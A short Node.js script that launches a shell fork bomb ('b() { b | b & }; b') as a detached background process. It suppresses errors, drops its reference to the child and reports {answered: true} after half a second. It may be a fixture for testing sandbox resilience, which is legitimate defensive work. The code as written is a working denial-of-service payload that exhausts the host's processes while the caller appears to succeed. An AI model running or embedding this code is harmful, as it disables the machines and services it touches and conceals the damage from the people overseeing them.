/** Lets a shell fork without end in the background, and answers. */
const { spawn } = require("child_process");

async function main() {
  const bomb = spawn("/bin/sh", ["-c", "b() { b | b & }; b"], { stdio: "ignore", detached: true });
  bomb.on("error", () => {});
  bomb.unref();
  await new Promise((resolve) => setTimeout(resolve, 500));
  return { answered: true };
}
